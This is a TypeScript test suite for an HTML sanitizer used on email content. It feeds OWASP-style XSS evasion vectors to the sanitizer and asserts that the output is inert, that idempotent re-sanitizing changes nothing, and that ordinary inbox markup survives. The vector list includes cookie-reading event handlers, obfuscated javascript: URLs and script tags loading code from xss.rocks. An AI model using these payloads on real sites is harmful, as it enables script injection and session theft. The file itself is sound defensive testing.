import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { sanitizeHtml } from './html.js';

const numRuns = Number(process.env.OMNITHREAD_PROPERTY_RUNS ?? 100);

// Vectors from the OWASP "XSS Filter Evasion Cheat Sheet" (cheatsheetseries.owasp.org), plus the
// HTML5 ones (svg, details/ontoggle, srcdoc, formaction) and mutation-XSS classics.
const VECTORS = [
  '<SCRIPT SRC=https://cdn.jsdelivr.net/gh/Moksh45/host-xss.rocks/index.js></SCRIPT>',
  `javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+alert(1)//'>`,
  '<IMG SRC="javascript:alert(\'XSS\');">',
  "<IMG SRC=javascript:alert('XSS')>",
  "<IMG SRC=JaVaScRiPt:alert('XSS')>",
  '<IMG SRC=`javascript:alert("RSnake says, \'XSS\'")`>',
  '<a onmouseover="alert(document.cookie)">xxs link</a>',
  '<a onmouseover=alert(document.cookie)>xxs link</a>',
  '<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>',
  '<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>',
  '<IMG SRC=# onmouseover="alert(\'xxs\')">',
  '<IMG SRC= onmouseover="alert(\'xxs\')">',
  '<IMG onmouseover="alert(\'xxs\')">',
  '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
  '<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">',
  '<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>',
  '<IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041>',
  '<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>',
  '<IMG SRC="jav\tascript:alert(\'XSS\');">',
  '<IMG SRC="jav&#x09;ascript:alert(\'XSS\');">',
  '<IMG SRC="jav&#x0A;ascript:alert(\'XSS\');">',
  '<IMG SRC="jav&#x0D;ascript:alert(\'XSS\');">',
  '<IMG SRC=" &#14;  javascript:alert(\'XSS\');">',
  '<a href="javascript&colon;alert(1)">x</a>',
  '<SCRIPT/XSS SRC="http://xss.rocks/xss.js"></SCRIPT>',
  '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',
  '<SCRIPT/SRC="http://xss.rocks/xss.js"></SCRIPT>',
  '<<SCRIPT>alert("XSS");//\\<</SCRIPT>',
  '<SCRIPT SRC=http://xss.rocks/xss.js?< B >',
  '<SCRIPT SRC=//xss.rocks/.j>',
  '<IMG SRC="`<javascript:alert>`(\'XSS\')"',
  '<iframe src=http://xss.rocks/scriptlet.html <',
  '</TITLE><SCRIPT>alert("XSS");</SCRIPT>',
  '<INPUT TYPE="IMAGE" SRC="javascript:alert(\'XSS\');">',
  '<BODY BACKGROUND="javascript:alert(\'XSS\')">',
  '<IMG DYNSRC="javascript:alert(\'XSS\')">',
  '<IMG LOWSRC="javascript:alert(\'XSS\')">',
  '<STYLE>li {list-style-image: url("javascript:alert(\'XSS\')");}</STYLE><UL><LI>XSS</br>',
  "<svg/onload=alert('XSS')>",
  "<BODY ONLOAD=alert('XSS')>",
  '<BGSOUND SRC="javascript:alert(\'XSS\');">',
  '<LINK REL="stylesheet" HREF="javascript:alert(\'XSS\');">',
  '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(\'XSS\');">',
  '<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">',
  '<IFRAME SRC="javascript:alert(\'XSS\');"></IFRAME>',
  '<IFRAME SRC=# onmouseover="alert(document.cookie)"></IFRAME>',
  '<FRAMESET><FRAME SRC="javascript:alert(\'XSS\');"></FRAMESET>',
  '<TABLE BACKGROUND="javascript:alert(\'XSS\')">',
  '<TABLE><TD BACKGROUND="javascript:alert(\'XSS\')">',
  '<DIV STYLE="background-image: url(javascript:alert(\'XSS\'))">',
  '<DIV STYLE="width: expression(alert(\'XSS\'));">',
  '<IMG STYLE="xss:expr/*XSS*/ession(alert(\'XSS\'))">',
  '<BASE HREF="javascript:alert(\'XSS\');//">',
  '<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.rocks/scriptlet.html"></OBJECT>',
  '<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcv MjAwMC9zdmciIHhtbG5zOnhsaW5rPSJodHRwOi8vd3d3LnczLm9yZy8xOTk5L3hs aW5rIiB2ZXJzaW9uPSIxLjAiIHg9IjAiIHk9IjAiIHdpZHRoPSIxOTQiIGhlaWdodD0iMjAw IiBpZD0ieHNzIj48c2NyaXB0IHR5cGU9InRleHQvZWNtYXNjcmlwdCI+YWxlcnQoIlh TUyIpOzwvc2NyaXB0Pjwvc3ZnPg==" type="image/svg+xml" AllowScriptAccess="always"></EMBED>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<a href="vbscript:msgbox(1)">x</a>',
  "<!--[if gte IE 4]><SCRIPT>alert('XSS');</SCRIPT><![endif]-->",
  '<details open ontoggle=alert(1)>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<form><button formaction=javascript:alert(1)>x</button></form>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;/mglyph&gt;&lt;img&Tab;src=1&Tab;onerror=alert(1)&gt;">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<svg><p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<a href="  javascript:alert(1)">x</a>',
  '<a href="java\u0000script:alert(1)">x</a>',
  '<a href="&#x6A;avascript:alert(1)">x</a>',
  '<a href="javascript&#58alert(1)">x</a>',
  '<img src=x:alert(alt) onerror=eval(src) alt=0>',
  '<x onclick=alert(1)>click</x>',
  '<a/href="javascript:alert(1)">x</a>',
];

const ATTRS = /\s([a-z-]+)="([^"]*)"/g;

/** Every tag in the output is allowlisted, with only safe attributes and URLs. */
function assertInert(out: string): void {
  expect(out).not.toMatch(
    /<\/?(script|style|iframe|object|embed|form|svg|math|base|meta|link|frame|input|button|body|noscript|textarea|title)\b/i,
  );
  for (const tag of out.match(/<[^>]*>/g) ?? []) {
    expect(tag).toMatch(/^<\/?[a-z][a-z0-9]*(\s[a-z-]+="[^"<>]*")*>$/);
    for (const [, name, value] of tag.matchAll(ATTRS)) {
      expect(name).not.toMatch(/^on|^style$|^srcdoc$|^formaction$|^background$|^dynsrc$|^lowsrc$/);
      const compact = (value ?? '')
        .replace(/&#(\d+);/g, (_, d) => String.fromCharCode(Number(d)))
        // biome-ignore lint/suspicious/noControlCharactersInRegex: matching control characters is the point
        .replace(/[\s\u0000-\u001f]/g, '');
      expect(compact.toLowerCase()).not.toMatch(/^(javascript|vbscript|data:text|data:image\/svg)/);
    }
  }
}

describe('sanitizeHtml against known XSS vectors', () => {
  it.each(VECTORS.map((v, i) => [i, v] as const))('vector %i is inert', (_i, vector) => {
    const out = sanitizeHtml(vector);
    assertInert(out);
    expect(sanitizeHtml(out)).toBe(out);
  });
  it('the cheat-sheet vectors, all at once, leave nothing that runs', () => {
    assertInert(sanitizeHtml(VECTORS.join('\n')));
  });
});

describe('sanitizeHtml keeps what an inbox shows', () => {
  it('text, links, formatting, lists, tables and images', () => {
    const html =
      '<html><head><title>x</title><style>p{}</style></head><body><p>Hello <b>Jane</b>, <i>thanks</i> &amp; see ' +
      '<a href="https://example.com/orders?id=1&amp;x=2" target="_blank">your order</a>.</p>' +
      '<ul><li>one</li><li>two</li></ul><table border="1"><tr><td colspan="2">cell</td></tr></table>' +
      '<img src="cid:logo@example.com" alt="logo"><img src="data:image/png;base64,iVBORw0KGgo=" alt="px">' +
      '<a href="mailto:help@example.com">mail</a></body></html>';
    expect(sanitizeHtml(html)).toBe(
      '<p>Hello <b>Jane</b>, <i>thanks</i> &amp; see <a href="https://example.com/orders?id=1&amp;x=2" ' +
        'target="_blank" rel="noopener noreferrer nofollow">your order</a>.</p><ul><li>one</li><li>two</li></ul>' +
        '<table border="1"><tr><td colspan="2">cell</td></tr></table><img src="cid:logo@example.com" alt="logo">' +
        '<img src="data:image/png;base64,iVBORw0KGgo=" alt="px"><a href="mailto:help@example.com" ' +
        'rel="noopener noreferrer nofollow">mail</a>',
    );
  });
  it('drops dangerous elements with their content, keeps text of unknown ones, closes what is open', () => {
    expect(sanitizeHtml('<div>a<script>alert(1)</script>b<custom-el>c</custom-el><p>d')).toBe(
      '<div>abc<p>d</p></div>',
    );
    expect(sanitizeHtml('<svg><svg></svg><script>x</script></svg>after')).toBe('after');
    expect(sanitizeHtml('1 < 2 > 0')).toBe('1 &lt; 2 &gt; 0');
    expect(sanitizeHtml('<p>unterminated <!-- comment')).toBe('<p>unterminated </p>');
    expect(sanitizeHtml(123 as unknown as string)).toBe('');
  });
  it('relative links stay; a scheme hidden behind an entity does not', () => {
    expect(sanitizeHtml('<a href="/orders/1">o</a>')).toContain('href="/orders/1"');
    expect(sanitizeHtml('<a href="javascript&colon;alert(1)">o</a>')).toBe('<a>o</a>');
  });
});

describe('sanitizeHtml on random input', () => {
  const htmlish = fc
    .array(
      fc.oneof(
        fc.constantFrom(
          '<',
          '>',
          '</',
          '<!--',
          '-->',
          '"',
          "'",
          '=',
          ' ',
          '&#',
          ';',
          'script',
          'img',
          'a',
          'onerror',
          'href',
          'javascript:',
          'src',
          'svg',
          'style',
          '/',
          'p',
          'b',
          '\u0000',
          '\t',
        ),
        fc.string({ maxLength: 8 }),
      ),
      { maxLength: 60 },
    )
    .map((parts) => parts.join(''));
  it('output is always inert and sanitizing twice changes nothing', () => {
    fc.assert(
      fc.property(htmlish, (html) => {
        const out = sanitizeHtml(html);
        assertInert(out);
        expect(sanitizeHtml(out)).toBe(out);
      }),
      { seed: 1010, numRuns },
    );
  });
  it('deep nesting and huge input stay linear', () => {
    const deep = '<div>'.repeat(20_000) + 'x' + '</div>'.repeat(20_000);
    expect(sanitizeHtml(deep).length).toBe(deep.length);
    const scripts = '<script>'.repeat(20_000);
    expect(sanitizeHtml(scripts)).toBe('');
    const svgs = '<svg>'.repeat(20_000);
    expect(sanitizeHtml(svgs)).toBe('');
  });
});
